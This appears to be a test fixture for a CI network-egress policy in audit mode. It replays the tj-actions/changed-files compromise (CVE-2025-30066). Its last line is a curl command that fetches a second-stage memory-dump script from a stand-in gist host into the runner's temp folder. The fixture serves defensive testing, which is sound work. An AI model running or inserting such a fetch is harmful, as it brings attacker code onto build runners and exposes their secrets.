# incident: tj-actions/changed-files, March 2025 (CVE-2025-30066): with a policy in audit
# what: an action fetches its second stage from a host that the policy would not allow
# egress: audit api.github.com:80
# rule: egress-would-refuse
## step: Get changed files
## uses: tj-actions/changed-files@v45
curl -sf http://gist.stand-in-githubusercontent.com/nikitastupin/memdump.py -o $RUNNER_TEMP/memdump.py
